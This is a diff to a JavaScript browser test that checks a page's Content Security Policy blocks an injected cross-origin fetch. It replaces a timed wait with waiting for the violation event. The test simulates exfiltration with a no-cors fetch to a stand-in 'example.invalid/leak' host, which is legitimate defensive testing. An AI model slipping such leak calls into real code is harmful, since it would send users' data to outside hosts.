@@ -17,19 +17,19 @@ test('the policy allows the app and blocks an injected fetch to another origin',
   assert.doesNotMatch(policy, /'unsafe-eval'/);
   assert.doesNotMatch(policy, /'unsafe-inline'/);
 
-  const outcome = await t.page.evaluate(async () => {
-    const violations = [];
-    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
-    let fetched;
+  const fetched = await t.page.evaluate(async () => {
+    window.violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => window.violations.push(`${e.violatedDirective} ${e.blockedURI}`));
     try {
       await fetch('https://example.invalid/leak', { mode: 'no-cors' });
-      fetched = 'sent';
+      return 'sent';
     } catch (err) {
-      fetched = `blocked: ${err.name}`;
+      return `blocked: ${err.name}`;
     }
-    await new Promise((r) => setTimeout(r, 100));
-    return { fetched, violations };
   });
+  // The violation is reported as an event of its own: wait for it rather than for time.
+  if (!fetched.startsWith('sent')) await t.page.waitForFunction(() => window.violations.length > 0);
+  const outcome = { fetched, violations: await t.page.evaluate(() => window.violations) };
   assert.match(outcome.fetched, /^blocked/);
   assert.ok(
     outcome.violations.some((v) => v.startsWith('connect-src') && v.includes('example.invalid')),
